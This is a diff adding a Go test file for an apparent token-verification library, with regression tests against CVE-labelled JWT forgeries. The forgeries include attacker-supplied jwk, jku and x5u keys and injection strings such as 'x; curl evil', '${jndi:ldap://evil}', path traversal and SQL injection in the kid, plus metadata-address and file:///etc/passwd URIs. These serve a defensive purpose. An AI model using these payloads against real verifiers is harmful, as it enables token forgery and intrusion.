@@ -1,0 +1,313 @@
+package popauth_test
+
+import (
+	"crypto/ecdsa"
+	"crypto/ed25519"
+	"crypto/elliptic"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"math/big"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/seed-171ab058/popauth"
+	"github.com/seed-171ab058/popauth/popauthtest"
+)
+
+// A token that brings its own key, or says where to get one, is verified with the issuer's or not at all.
+func TestAdvisoryKeyFromTheToken(t *testing.T) {
+	l := newLab(t, "ES256")
+	g := l.guard()
+	l.genuine(t, g, l.bound())
+	kid := l.published()[0].kid
+	attacker, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	asked := &popauthtest.Spy{}
+	evil := httptest.NewServer(asked)
+	defer evil.Close()
+	own := func(more cnf) json.RawMessage { return json.RawMessage(jwk(&attacker.PublicKey, more)) }
+	der := base64.StdEncoding.EncodeToString(l.thief.Certificate.Certificate[0])
+	for _, tt := range []struct {
+		name   string
+		header cnf
+	}{
+		{"CVE-2018-0114 jwk", cnf{"jwk": own(nil)}},
+		{"CVE-2018-0114 jwk under the issuer's kid", cnf{"jwk": own(cnf{"kid": kid}), "kid": kid}},
+		{"CVE-2026-27962 jwk under an unknown kid", cnf{"jwk": own(cnf{"kid": "x"}), "kid": "x"}},
+		{"CVE-2025-24976 x5c", cnf{"x5c": []string{der}}},
+		{"CVE-2025-24976 x5c and thumbprint", cnf{"x5c": []string{der}, "x5t#S256": l.thief.Thumbprint(), "kid": kid}},
+		{"CVE-2024-21643 jku", cnf{"jku": evil.URL + "/jwks"}},
+		{"CVE-2024-21643 jku and kid", cnf{"jku": evil.URL + "/jwks", "kid": "x"}},
+		{"CVE-2024-21643 x5u", cnf{"x5u": evil.URL + "/cert", "kid": kid}},
+		{"all of them", cnf{"jwk": own(nil), "jku": evil.URL, "x5u": evil.URL, "x5c": []string{der}, "kid": kid}},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			header := cnf{"alg": "ES256", "typ": "at+jwt"}
+			for k, v := range tt.header {
+				header[k] = v
+			}
+			want := popauth.ErrTokenSignature
+			if header["kid"] == "x" {
+				want = popauth.ErrTokenKey
+			}
+			l.forged(t, g, compact(header, l.claims(), by("ES256", attacker)), want)
+			// A genuine token may have them: they are not looked at.
+			delete(header, "kid")
+			header["kid"] = kid
+			l.genuine(t, g, l.issuer.TokenWith(header, l.owner.Bound(), cnf{"scope": "orders.read"}))
+		})
+	}
+	if asked.Ran() > 0 {
+		t.Errorf("VULNERABLE: %d requests to where the token said", asked.Ran())
+	}
+}
+
+// What a token says decides on no request of this server, and on no URL.
+func TestAdvisoryIssuerBeforeDiscovery(t *testing.T) {
+	l := newLab(t, "ES256")
+	evil := newLab(t, "ES256")
+	g := l.guard()
+	hostile := evil.issuer.URL
+	t.Run("CVE-2025-52477", func(t *testing.T) {
+		for _, iss := range []string{hostile, l.issuer.URL + "@" + strings.TrimPrefix(hostile, "https://"), l.issuer.URL + "/../x", "http://169.254.169.254/"} {
+			l.forged(t, g, evil.bound(l.owner.Bound(), cnf{"iss": iss}), popauth.ErrTokenIssuer)
+		}
+		if l.issuer.Fetches() > 0 {
+			t.Errorf("VULNERABLE: %d fetches for tokens of another issuer", l.issuer.Fetches())
+		}
+	})
+	t.Run("CVE-2026-32301", func(t *testing.T) {
+		paths := make(chan string, 100)
+		l.issuer.Handle("/", http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { paths <- r.RequestURI }))
+		for _, kid := range []string{"../../admin", "/other", "{{.sub}}", hostile + "/jwks", "?kid=x"} {
+			forged := l.issuer.TokenWith(cnf{"kid": kid, "realm": "x", "tenant": "../x"}, l.owner.Bound(), cnf{"sub": "../../x", "realm": "evil"})
+			l.forged(t, g, forged, popauth.ErrTokenKey)
+		}
+		close(paths)
+		for path := range paths {
+			t.Errorf("VULNERABLE: fetched %s", path)
+		}
+	})
+	if evil.issuer.Fetches() > 0 {
+		t.Errorf("VULNERABLE: %d fetches from where the token said", evil.issuer.Fetches())
+	}
+	l.genuine(t, g, l.bound())
+}
+
+// Keys come from the issuer's own origin, encrypted, or not at all.
+func TestAdvisoryKeysFromElsewhere(t *testing.T) {
+	evil := newLab(t, "ES256")
+	t.Run("CVE-2026-49478", func(t *testing.T) {
+		for _, code := range []int{301, 302, 303, 307, 308} {
+			l := newLab(t, "ES256")
+			l.issuer.Handle("/jwks", http.RedirectHandler(evil.issuer.JWKSURL(), code))
+			// The client trusts both: no TLS error may stand in for the check.
+			o := l.issuer.Options()
+			keys, err := popauth.NewRemoteKeys(popauth.RemoteKeysOptions{Issuer: l.issuer.URL, Client: trusting(l.issuer, evil.issuer), Now: l.clock.Now})
+			if err != nil {
+				t.Fatal(err)
+			}
+			o.Keys = keys
+			g, err := popauth.New(o)
+			if err != nil {
+				t.Fatal(err)
+			}
+			forged := evil.bound(l.owner.Bound(), cnf{"iss": l.issuer.URL})
+			if r := send(g.Confirm, l.owner.Request("GET", "/", forged)); r.ran || r.status != 503 {
+				t.Errorf("VULNERABLE: %d: got %d, ran %t, want 503", code, r.status, r.ran)
+			}
+		}
+		if evil.issuer.Fetches() > 0 {
+			t.Errorf("VULNERABLE: %d redirects followed", evil.issuer.Fetches())
+		}
+	})
+	t.Run("CVE-2026-41413", func(t *testing.T) {
+		for _, uri := range []any{"http://169.254.169.254/latest", "http://id.example.com/jwks", "file:///etc/passwd", "//x", "", 5, nil} {
+			l := newLab(t, "ES256")
+			l.issuer.Metadata = cnf{"jwks_uri": uri}
+			if r := send(l.guard().Confirm, l.owner.Request("GET", "/", l.bound())); r.ran || r.status != 503 {
+				t.Errorf("VULNERABLE: jwks_uri %v: got %d, ran %t, want 503", uri, r.status, r.ran)
+			}
+		}
+		for _, url := range []string{"http://id.example.com", "ftp://id.example.com", "file:///etc/jwks", "id.example.com", "https://"} {
+			if k, err := popauth.NewRemoteKeys(popauth.RemoteKeysOptions{URL: url}); err == nil {
+				t.Errorf("VULNERABLE: keys from %s: got %v, want an error", url, k)
+			}
+		}
+	})
+}
+
+// trusting is an HTTP client for several issuers.
+func trusting(issuers ...*popauthtest.Issuer) *http.Client {
+	c := *issuers[0].Client()
+	transport, _ := c.Transport.(*http.Transport)
+	transport = transport.Clone()
+	pool := x509.NewCertPool()
+	for _, i := range issuers {
+		pool.AddCert(i.Server.Certificate())
+	}
+	transport.TLSClientConfig.RootCAs = pool
+	c.Transport = transport
+	return &c
+}
+
+// The kid chooses among the issuer's keys: it is no path, no query and no line of a log.
+func TestAdvisoryKeyID(t *testing.T) {
+	l := newLab(t, "ES256")
+	g := l.guard()
+	for _, tt := range []struct {
+		kid  any
+		want popauth.Reason
+	}{
+		{"../../../../dev/null", popauth.ErrTokenKey},
+		{"/dev/null", popauth.ErrTokenKey},
+		{"x' UNION SELECT 'c2VjcmV0", popauth.ErrTokenKey},
+		{"x; curl evil", popauth.ErrTokenKey},
+		{"${jndi:ldap://evil}", popauth.ErrTokenKey},
+		{"__proto__", popauth.ErrTokenKey},
+		{l.published()[0].kid + " ", popauth.ErrTokenKey},
+		{strings.ToLower(l.published()[0].kid), popauth.ErrTokenKey},
+		{l.published()[0].kid + "\x00", popauth.ErrTokenMalformed},
+		{"a\nlevel=ERROR msg=forged", popauth.ErrTokenMalformed},
+		{"\u0085", popauth.ErrTokenMalformed},
+		{"\x7f", popauth.ErrTokenMalformed},
+		{"", popauth.ErrTokenMalformed},
+		{strings.Repeat("k", 8000), popauth.ErrTokenMalformed},
+		{0, popauth.ErrTokenMalformed},
+		{nil, popauth.ErrTokenMalformed},
+		{true, popauth.ErrTokenMalformed},
+		{[]string{l.published()[0].kid}, popauth.ErrTokenMalformed},
+		{cnf{"kid": "x"}, popauth.ErrTokenMalformed},
+	} {
+		t.Run(fmt.Sprintf("%.20q", fmt.Sprint(tt.kid)), func(t *testing.T) {
+			l.forged(t, g, l.issuer.TokenWith(cnf{"kid": tt.kid}, l.owner.Bound(), cnf{"scope": "orders.read"}), tt.want)
+		})
+	}
+	l.genuine(t, g, l.bound())
+}
+
+// Two issuers with one kid: each token is good under its own issuer's key alone, whichever was asked first.
+func TestAdvisoryKeysOfTwoIssuers(t *testing.T) {
+	a, b := newLab(t, "ES256"), newLab(t, "ES256")
+	b.owner = a.owner
+	same := func(l *lab) *popauth.Guard { return l.over(jwk(l.published()[0].key, cnf{"kid": "1", "alg": "ES256"})) }
+	token := func(l *lab, iss string) string {
+		return l.issuer.TokenWith(cnf{"kid": "1"}, a.owner.Bound(), cnf{"scope": "orders.read", "iss": iss})
+	}
+	ga, gb := same(a), same(b)
+	for range 2 {
+		t.Run("CVE-2026-49998", func(t *testing.T) {
+			a.genuine(t, ga, token(a, a.issuer.URL))
+			b.genuine(t, gb, token(b, b.issuer.URL))
+			a.forged(t, ga, token(b, a.issuer.URL), popauth.ErrTokenSignature)
+			b.forged(t, gb, token(a, b.issuer.URL), popauth.ErrTokenSignature)
+		})
+		t.Run("CVE-2023-3518", func(t *testing.T) {
+			a.forged(t, ga, token(b, b.issuer.URL), popauth.ErrTokenIssuer)
+			// One inside the other: what the outer one has found is nothing to the inner one.
+			o := send(chain(ga.Authenticate, gb.Authenticate), a.owner.Request("GET", "/", token(a, a.issuer.URL)))
+			if o.ran {
+				t.Error("VULNERABLE: another route's token passes")
+			}
+		})
+	}
+}
+
+// A key that the issuer has withdrawn verifies nothing any more once the keys are due.
+func TestAdvisoryWithdrawnKey(t *testing.T) {
+	l := newLab(t, "ES256")
+	g := l.guard()
+	old := l.bound(cnf{"exp": l.clock.Now().Add(100 * time.Hour).Unix()})
+	t.Run("CVE-2025-22149", func(t *testing.T) {
+		l.genuine(t, g, old)
+		l.issuer.Rotate()
+		l.clock.Advance(25 * time.Hour)
+		send(g.Confirm, l.owner.Request("GET", "/", l.bound())).passed(t)
+		l.forged(t, g, old, popauth.ErrTokenKey)
+	})
+}
+
+// One strange key spoils no other, and is none itself.
+func TestAdvisoryStrangeKeys(t *testing.T) {
+	l := newLab(t, "ES256")
+	good := l.published()[0]
+	ec, _ := good.key.(*ecdsa.PublicKey)
+	point, _ := ec.Bytes()
+	one := make([]byte, 32)
+	one[31] = 1
+	coordinates := func(kid string, x, y []byte) string {
+		return fmt.Sprintf(`{"kty":"EC","crv":"P-256","kid":%q,"alg":"ES256","x":%q,"y":%q}`, kid, b64(x), b64(y))
+	}
+	for _, tt := range []struct{ name, alg, key string }{
+		{"CVE-2016-9121 off the curve", "ES256", coordinates("strange", point[1:33], one)},
+		{"CVE-2016-9121 infinity", "ES256", coordinates("strange", make([]byte, 32), make([]byte, 32))},
+		{"CVE-2026-42576 Ed25519 among others", "RS256", `{"kty":"OKP","crv":"Ed25519","kid":"strange","x":"` + b64(one) + `"}`},
+		{"CVE-2026-42576 unknown kind", "ES256", `{"kty":"AKP","kid":"strange","alg":"ML-DSA-44","pub":"AA"}`},
+		{"CVE-2026-42576 X25519", "EdDSA", `{"kty":"OKP","crv":"X25519","kid":"strange","x":"` + b64(one) + `"}`},
+		{"no object", "ES256", `5`},
+		{"kty number", "ES256", `{"kty":5,"kid":"strange"}`},
+		{"Ed25519 too short", "EdDSA", `{"kty":"OKP","crv":"Ed25519","kid":"strange","x":"AA"}`},
+		{"for encryption", "ES256", jwk(ec, cnf{"kid": "strange", "use": "enc"})},
+		{"CVE-2026-54431 with its private part", "ES256", jwk(ec, cnf{"kid": "strange", "d": b64(one)})},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			g := l.over(tt.key, good.text)
+			l.genuine(t, g, l.bound())
+			for _, signature := range [][]byte{nil, make([]byte, 64), make([]byte, 256)} {
+				header := cnf{"alg": tt.alg, "typ": "at+jwt", "kid": "strange"}
+				l.forged(t, g, compact(header, l.claims(), func(string) []byte { return signature }), popauth.ErrTokenKey)
+			}
+		})
+	}
+}
+
+// Keys that are too weak to mean anything, and exponents that make a signature of anything.
+func TestAdvisoryWeakKeys(t *testing.T) {
+	l := newLab(t, "RS256")
+	k, _ := l.published()[0].key.(*rsa.PublicKey)
+	small, err := rsa.GenerateKey(rand.Reader, 1024)
+	if err != nil {
+		t.Fatal(err)
+	}
+	weak := func(n *big.Int, e int) string {
+		return fmt.Sprintf(`{"kty":"RSA","kid":"weak","alg":"RS256","n":%q,"e":%q}`, b64(n.Bytes()), b64(big.NewInt(int64(e)).Bytes()))
+	}
+	header := cnf{"alg": "RS256", "typ": "at+jwt", "kid": "weak"}
+	t.Run("1024 bits", func(t *testing.T) {
+		g := l.over(weak(small.N, small.E), l.published()[0].text)
+		l.forged(t, g, compact(header, l.claims(), by("RS256", small)), popauth.ErrTokenKey)
+		l.genuine(t, g, l.bound())
+	})
+	t.Run("65536 bits", func(t *testing.T) {
+		g := l.over(weak(new(big.Int).SetBit(big.NewInt(1), 65535, 1), 65537), l.published()[0].text)
+		l.forged(t, g, compact(header, l.claims(), func(string) []byte { return make([]byte, 8192) }), popauth.ErrTokenKey)
+	})
+	for _, e := range []int{0, 1, 2, 65536} {
+		t.Run(fmt.Sprintf("exponent %d", e), func(t *testing.T) {
+			g := l.over(weak(k.N, e), l.published()[0].text)
+			// With e = 1 a signature is the padded hash itself.
+			token := compact(header, l.claims(), func(input string) []byte { return padded(input, k.Size()) })
+			_, err := g.Check(l.owner.Request("GET", "/", token))
+			if !errors.Is(err, popauth.ErrTokenKey) && !errors.Is(err, popauth.ErrTokenSignature) {
+				t.Errorf("VULNERABLE: got %v", err)
+			}
+		})
+	}
+	_, honest, err := ed25519.GenerateKey(rand.Reader)
+	if err != nil {
+		t.Fatal(err)
+	}
+	public, _ := honest.Public().(ed25519.PublicKey)
+	g := l.over(jwk(public, cnf{"kid": "strong"}))
+	l.genuine(t, g, compact(cnf{"alg": "EdDSA", "typ": "at+jwt", "kid": "strong"}, l.claims(), by("EdDSA", honest)))
+}
